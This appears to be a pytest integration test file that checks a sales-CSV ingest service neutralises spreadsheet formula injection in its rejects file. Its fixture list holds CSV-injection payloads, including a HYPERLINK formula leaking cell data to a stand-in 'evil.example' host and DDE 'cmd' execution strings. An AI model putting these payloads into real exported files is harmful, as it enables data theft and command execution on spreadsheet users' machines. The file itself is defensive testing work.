"""A sales file is untrusted input (moto, S3 → SQS → the queue handler): what it carries never
reaches ops as a live spreadsheet formula, and its key never chooses where our outputs go."""

from __future__ import annotations

import csv
import io

import pytest

from chalicelib import aws
from chalicelib.csv_safe import DANGEROUS_FIRST
from chalicelib.services import ingest as ingest_service
from tests.integration.test_ingest_files import (  # the shared harness
    BUCKET,
    HEADER,
    WELCOME,
    Harness,
    available,
    counts,
    enrol,
    ingest,  # noqa: F401  (fixture)
    sale,
)

AT = "2026-11-21T18:03:11+08:00"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|x",
    "@SUM(1+1)*cmd|x",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r",
]


def csv_text(rows: list[list[str]]) -> str:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\r\n").writerows(rows)
    return text.getvalue()


# --- formulas in the rejects file ----------------------------------------------------------------


def test_formulas_in_rejected_rows_reach_the_rejects_file_as_text(ingest: Harness) -> None:  # noqa: F811
    # Given: a file whose rejected rows hold formulas in every kind of column, and an unknown
    # column whose name is a formula
    enrol("m1")
    header = [*HEADER.split(","), "@note"]
    rows = [header]
    for i, formula in enumerate(FORMULAS):
        rows.append(["s1", f"r{i}", AT, "SALE", formula, "CNY", "m1", "", "", formula])  # bad_amount
    rows.append(["s1", FORMULAS[0], AT, "SALE", "1.00", "CNY", "", "", "", ""])  # bad_receipt_id
    rows.append(["s1", "ok1", AT, "SALE", "-5", "CNY", "m1", "", "", ""])  # a negative amount
    rows.append(["s1", "ok2", AT, "SALE", "10.00", "CNY", "m1", "", "", "=1+1"])  # applied

    # When
    report = ingest.run(csv_text(rows))

    # Then: the rows are rejected (or applied) as before, and the rejects file holds no cell a
    # spreadsheet would evaluate; each dangerous cell reads as the original behind a quote
    assert counts(report) == (len(FORMULAS) + 3, 1, 0, len(FORMULAS) + 2)
    assert available("m1") == WELCOME + 10
    rejects = ingest.rejects()
    assert rejects[0] == ["row", "reason", "message", *HEADER.split(","), "'@note"]
    for line in rejects:
        assert all(cell[:1] not in DANGEROUS_FIRST for cell in line), line
    by_row = {int(line[0]): line for line in rejects[1:]}
    for i, formula in enumerate(FORMULAS):
        line = by_row[i + 2]
        assert line[1] == ("missing_field" if formula.isspace() else "bad_amount")
        assert line[3 + 4] == line[3 + 9] == "'" + formula
    assert by_row[len(FORMULAS) + 2][3 + 1] == "'" + FORMULAS[0]
    assert by_row[len(FORMULAS) + 3][3 + 4] == "'-5"  # quoted too: acceptable (OWASP)


def test_formulas_in_rejects_of_a_file_in_chunks_and_returns_are_text(
    ingest: Harness,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Rejects of both phases are merged per chunk (the returns phase reads the sales part back)."""
    monkeypatch.setattr(ingest_service, "ROWS_PER_CHUNK", 2)
    enrol("m1")
    rows = [HEADER.split(",")]
    rows.append(["s1", "r1", AT, "SALE", "+1", "CNY", "m1", "", ""])  # sales phase: bad_amount
    rows.append(["s1", "x1", AT, "RETURN", "1.00", "CNY", "", "=nope", ""])  # returns phase: bad original id
    rows.append(["s1", "x2", AT, "RETURN", "1.00", "CNY", "", "nope", "@cat"])  # returns phase: unknown sale
    rows.append(["s1", "r2", AT, "SALE", "-1", "CNY", "m1", "", ""])

    report = ingest.run(csv_text(rows))

    assert report["rejected"] == 4
    rejects = ingest.rejects()
    assert [line[0] for line in rejects[1:]] == ["2", "3", "4", "5"]
    for line in rejects:
        assert all(cell[:1] not in DANGEROUS_FIRST for cell in line), line
    assert [line[3 + 4] for line in rejects[1:]] == ["'+1", "1.00", "1.00", "'-1"]
    assert rejects[2][3 + 7] == "'=nope" and rejects[3][3 + 8] == "'@cat"


def test_a_clean_file_has_an_unchanged_rejects_header(ingest: Harness) -> None:  # noqa: F811
    ingest.run(csv_text([HEADER.split(","), sale("r1", "1.00").split(",")]))
    body = aws.client("s3").get_object(Bucket=BUCKET, Key="rejects/s1/2026-11-21.csv")["Body"].read()
    assert body == ("row,reason,message," + HEADER + "\r\n").encode()
